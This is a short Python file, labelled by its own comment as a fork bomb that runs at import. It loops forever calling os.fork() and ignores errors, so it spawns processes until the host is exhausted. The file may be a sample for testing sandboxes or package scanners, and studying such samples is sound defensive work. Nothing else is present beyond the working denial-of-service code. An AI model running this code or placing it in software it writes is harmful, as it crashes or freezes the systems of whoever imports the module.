# A fork bomb at import.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
